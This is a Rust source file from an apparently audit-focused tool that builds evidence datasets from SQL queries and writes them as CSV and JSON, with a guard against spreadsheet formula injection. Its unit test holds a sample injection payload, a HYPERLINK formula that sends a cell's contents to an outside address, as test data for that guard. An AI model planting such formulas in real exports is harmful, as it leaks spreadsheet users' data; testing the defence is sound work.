//! A dataset of an evidence pack: one population, the query that produced it and its parameters
//! (so an auditor can re-run it), its rows, and how it is written (CSV and JSON).

use crate::error::{Error, Result};
use serde::Serialize;
use serde_json::Value;
use sqlx::{AnyConnection, AssertSqlSafe, Row};

/// How a column of a query is read and written.
#[derive(Debug, Clone, Copy)]
pub enum Col {
    /// Text (NULL written empty).
    Text(&'static str),
    /// An integer.
    Int(&'static str),
    /// A time in milliseconds, written as RFC 3339 UTC.
    Time(&'static str),
    /// 0/1 written as false/true.
    Flag(&'static str),
}

impl Col {
    fn name(self) -> &'static str {
        match self {
            Col::Text(n) | Col::Int(n) | Col::Time(n) | Col::Flag(n) => n,
        }
    }
}

/// One population of evidence.
#[derive(Debug, Clone, Serialize)]
pub struct Dataset {
    /// File stem: `NAME.csv` and `NAME.json`.
    pub name: String,
    /// What it shows, in words.
    pub title: String,
    /// The query (SQL as run, or for derived data the SQL it reads and how it derives).
    pub query: String,
    /// The query's parameters by name.
    pub params: Vec<(String, Value)>,
    pub columns: Vec<String>,
    pub rows: Vec<Vec<Value>>,
}

impl Dataset {
    /// An empty dataset with its description; rows are pushed by the caller.
    pub fn derived(name: &str, title: &str, query: &str, columns: &[&str]) -> Self {
        Dataset {
            name: name.into(),
            title: title.into(),
            query: query.into(),
            params: Vec::new(),
            columns: columns.iter().map(|c| c.to_string()).collect(),
            rows: Vec::new(),
        }
    }

    /// Adds a parameter (kept with the query).
    pub fn param(mut self, name: &str, v: impl Into<Value>) -> Self {
        self.params.push((name.into(), v.into()));
        self
    }

    /// The values of a column (empty when there is no such column).
    pub fn column(&self, name: &str) -> Vec<&Value> {
        match self.columns.iter().position(|c| c == name) {
            Some(i) => self.rows.iter().filter_map(|r| r.get(i)).collect(),
            None => Vec::new(),
        }
    }

    /// The rows as JSON objects.
    pub fn objects(&self) -> Vec<serde_json::Map<String, Value>> {
        self.rows
            .iter()
            .map(|r| {
                self.columns
                    .iter()
                    .cloned()
                    .zip(r.iter().cloned())
                    .collect()
            })
            .collect()
    }

    /// The JSON file: the query, its parameters and the rows as objects.
    pub fn to_json(&self) -> String {
        let params: serde_json::Map<String, Value> = self.params.iter().cloned().collect();
        let v = serde_json::json!({
            "dataset": self.name,
            "title": self.title,
            "query": self.query,
            "parameters": params,
            "row_count": self.rows.len(),
            "rows": self.objects(),
        });
        serde_json::to_string_pretty(&v).unwrap_or_default() + "\n"
    }

    /// The CSV file: a header and one line per row.
    pub fn to_csv(&self) -> Result<String> {
        let e = |e: csv::Error| Error::Storage(format!("csv: {e}"));
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record(&self.columns).map_err(e)?;
        for r in &self.rows {
            w.write_record(r.iter().map(csv_cell)).map_err(e)?;
        }
        String::from_utf8(w.into_inner().map_err(|e| Error::Storage(e.to_string()))?)
            .map_err(|e| Error::Storage(e.to_string()))
    }
}

/// A value as a CSV cell.
pub fn cell(v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        Value::Array(a) => a.iter().map(cell).collect::<Vec<_>>().join("; "),
        other => other.to_string(),
    }
}

/// A value as a CSV cell that a spreadsheet shows as text: text starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return (a formula to Excel or LibreOffice) gets a leading `'`. Only
/// text is touched (numbers stay numbers); the JSON files keep every value verbatim.
pub fn csv_cell(v: &Value) -> String {
    let c = cell(v);
    match v {
        Value::String(_) | Value::Array(_) if c.starts_with(['=', '+', '-', '@', '\t', '\r']) => {
            format!("'{c}")
        }
        _ => c,
    }
}

/// A time in ms as the JSON value written (RFC 3339), NULL as null.
pub fn time(ms: Option<i64>) -> Value {
    ms.map_or(Value::Null, |m| Value::String(crate::clock::format_ms(m)))
}

/// Runs `sql` with `params` bound in order as `$1, $2, ...` and reads `cols`.
pub async fn query(
    conn: &mut AnyConnection,
    name: &str,
    title: &str,
    sql: &str,
    params: &[(&str, i64)],
    cols: &[Col],
) -> Result<Dataset> {
    let mut q = sqlx::query(AssertSqlSafe(sql.to_string()));
    for (_, p) in params {
        q = q.bind(*p);
    }
    let rows = q.fetch_all(&mut *conn).await?;
    let mut out = Vec::with_capacity(rows.len());
    for row in &rows {
        let mut r = Vec::with_capacity(cols.len());
        for (i, c) in cols.iter().enumerate() {
            r.push(match c {
                Col::Text(_) => row
                    .try_get::<Option<String>, _>(i)?
                    .map_or(Value::Null, Value::String),
                Col::Int(_) => row
                    .try_get::<Option<i64>, _>(i)?
                    .map_or(Value::Null, Value::from),
                Col::Time(_) => time(row.try_get::<Option<i64>, _>(i)?),
                Col::Flag(_) => Value::Bool(row.try_get::<Option<i64>, _>(i)?.unwrap_or(0) != 0),
            });
        }
        out.push(r);
    }
    Ok(Dataset {
        name: name.into(),
        title: title.into(),
        query: sql.split_whitespace().collect::<Vec<_>>().join(" "),
        params: params
            .iter()
            .map(|(n, v)| {
                let shown = if n.ends_with("_ms") {
                    serde_json::json!({ "ms": v, "time": crate::clock::format_ms(*v) })
                } else {
                    Value::from(*v)
                };
                (n.to_string(), shown)
            })
            .collect(),
        columns: cols.iter().map(|c| c.name().to_string()).collect(),
        rows: out,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn security_csv_cells_never_start_a_formula() {
        let mut d = Dataset::derived("x", "", "", &["reason", "n"]);
        d.rows.push(vec![
            Value::from("=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
            Value::from(-3),
        ]);
        d.rows.push(vec![Value::from("@SUM(1)"), Value::from(1)]);
        d.rows.push(vec![Value::from("fine"), Value::from(2)]);
        let csv = d.to_csv().unwrap();
        assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
        assert!(csv.contains("'@SUM(1),1"), "{csv}");
        assert!(csv.contains(",-3\n") && csv.contains("fine,2"), "{csv}");
        assert!(d.to_json().contains("\"=HYPERLINK("));
    }
}
